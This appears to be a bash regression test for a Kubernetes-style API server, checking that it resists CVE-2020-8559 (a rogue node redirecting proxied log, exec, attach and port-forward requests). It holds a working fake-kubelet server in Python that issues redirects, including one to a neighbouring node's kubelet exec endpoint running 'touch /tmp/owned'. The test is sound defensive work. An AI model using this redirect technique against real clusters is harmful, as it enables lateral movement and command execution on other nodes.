#!/bin/bash
# A node that is not what it seems (CVE-2020-8559): it answers what the API server forwards to it by sending it elsewhere, to a
# listener of its own or to the kubelet API of another node. Neither the API server goes there, nor kubectl.
build=${1:?usage: redirects_test.sh BUILD_DIR}
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/../transcript.sh"
. "$here/node.sh"
need openssl
liar=
leave() {
  local code=$?
  [ -z "$liar" ] || kill "$liar"
  (exit $code)
  clean_up
}
trap leave EXIT
start_up
import_demo_image >/dev/null
. "$here/../api/node_credential.sh"
eventually 'the node is ready' 30 ' Ready ' kubectl get nodes
address=$(kubectl get nodes -o jsonpath='{.items[0].status.addresses[0].address}')
kubectl run victim --image=cleat-demo:1 --restart=Never >/dev/null
check 'somebody else has a pod on it' 'condition met' kubectl wait --for=condition=Ready pod/victim --timeout=30s

# The evil node: it has joined as all do, and answers with what is in $work/answer: STATUS TYPE LOCATION.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$work/evil-tls.key" -out "$work/evil-tls.crt" \
  -subj /CN=evil -addext subjectAltName=IP:127.0.0.1 -days 1 2>/dev/null
cat >"$work/liar.py" <<'PY'
import http.server, ssl, sys, threading
work = sys.argv[1]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(work + "/evil-tls.crt", work + "/evil-tls.key")

def say(text):
    with open(work + "/seen", "a") as out:
        out.write(text + "\n")

class Kubelet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        say(f"kubelet {self.command} {self.path} {self.headers.get('Upgrade', '-')} {self.headers.get('Authorization', '-')}")
        status, kind, location = open(work + "/answer").read().split()
        body = b'{"kind":"Status","apiVersion":"v1","status":"Failure","message":"over there"}'
        self.send_response(int(status))
        self.send_header("Content-Type", kind)
        self.send_header("Location", location.replace("PATH", self.path))
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = answer
    def log_message(self, *_):
        pass

class Elsewhere(http.server.ThreadingHTTPServer):
    def verify_request(self, *_):
        say("elsewhere")
        return False

kubelet = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Kubelet)
kubelet.socket = context.wrap_socket(kubelet.socket, server_side=True)
elsewhere = Elsewhere(("127.0.0.1", 0), Kubelet)
threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
print(kubelet.server_port, elsewhere.server_port, flush=True)
kubelet.serve_forever()
PY
: >"$work/seen"
python3 "$work/liar.py" "$work" >"$work/ports" 2>"$work/liar.log" &
liar=$!
until_true 10 grep -q ' ' "$work/ports"
read -r kubelet elsewhere <"$work/ports"
check 'the evil node joins' 'joined' join evil
check 'and says where it is' 'created' node evil create -f - <<JSON
{"apiVersion":"v1","kind":"Node","metadata":{"name":"evil"}}
JSON
check 'and how it is reached' '^200 ' patch_as evil /api/v1/nodes/evil/status \
  "{\"status\":{\"addresses\":[{\"type\":\"InternalIP\",\"address\":\"127.0.0.1\"}],\"daemonEndpoints\":{\"kubeletEndpoint\":{\"Port\":$kubelet}}}}"
kubectl create -f - >/dev/null <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: bait}
spec: {nodeName: evil, containers: [{name: main, image: "cleat-demo:1"}]}
YAML
kubectl create serviceaccount careless >/dev/null
kubectl create clusterrolebinding careless --clusterrole=cluster-admin --serviceaccount=default:careless >/dev/null
echo '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}' >"$work/request.json"
token=$(kubectl create --raw /api/v1/namespaces/default/serviceaccounts/careless/token -f "$work/request.json" |
  python3 -c 'import json, sys; print(json.load(sys.stdin)["status"]["token"])')
careless() { as --token="$token" "$@"; }
# A client that goes wherever it is sent, with its token.
follow() {  # METHOD PATH [HEADER…]
  local headers=() each
  for each in "${@:3}"; do headers+=(-H "$each"); done
  timeout 20 curl -sS -k -L --location-trusted --post301 --post302 --post303 --max-redirs 3 --http1.1 -X "$1" \
    -H "Authorization: Bearer $token" "${headers[@]}" -w ' %{http_code}' "https://127.0.0.1:$port$2"
}
base=/api/v1/namespaces/default/pods/bait
spdy=('Connection: Upgrade' 'Upgrade: SPDY/3.1' 'X-Stream-Protocol-Version: v4.channel.k8s.io')
websocket=('Connection: Upgrade' 'Upgrade: websocket' 'Sec-WebSocket-Version: 13' 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='
  'Sec-WebSocket-Protocol: v5.channel.k8s.io')
forbidden='redirects forbidden".* 500$'
invalid='invalid upgrade response: status code 30[0-9]".* 500$'

for where in "https://127.0.0.1:$elsewhere/PATH" "https://$address:10250/exec/default/victim/victim?command=touch&command=/tmp/owned&output=1"; do
  for answer in '302 text/plain' '302 application/json' '307 application/json' '301 text/html' '308 text/plain'; do
    echo "$answer $where" >"$work/answer"
    title="sent away (${answer%% *} ${answer##*/}, $([ "$where" = "${where#*:10250}" ] && echo to a listener || echo to a neighbour))"
    check "$title: a log" "$forbidden" follow GET "$base/log"
    check "$title: exec over SPDY" "$invalid" follow POST "$base/exec?command=id&stdout=1" "${spdy[@]}"
    check "$title: exec over a WebSocket" "$invalid" follow GET "$base/exec?command=id&stdout=1" "${websocket[@]}"
    check "$title: attach" "$invalid" follow POST "$base/attach?stdout=1" "${spdy[@]}"
    check "$title: port-forward" "$invalid" follow POST "$base/portforward" "${spdy[@]}"
    check "$title: exec without an upgrade" "$forbidden" follow POST "$base/exec?command=id&stdout=1"
  done
done
echo "302 application/json https://127.0.0.1:$elsewhere/PATH" >"$work/answer"
check_fails 'kubectl logs says so' 'redirects forbidden' careless logs bait
check_fails 'kubectl exec too' 'invalid upgrade response: status code 302' careless exec bait -- id
check 'the evil node was asked each time' '^[6-9][0-9]$' grep -c '^kubelet ' "$work/seen"
none() { grep -c "$1" "$work/seen" || true; }
check 'the token was never told to it' '^0$' none Bearer
check 'and nobody went elsewhere' '^0$' none elsewhere
check_fails 'nothing was done to the neighbour' 'No such file|terminated with exit code' kubectl exec victim -- ls /tmp/owned
check 'who is at work as before' '^there$' kubectl exec victim -- echo there
finish
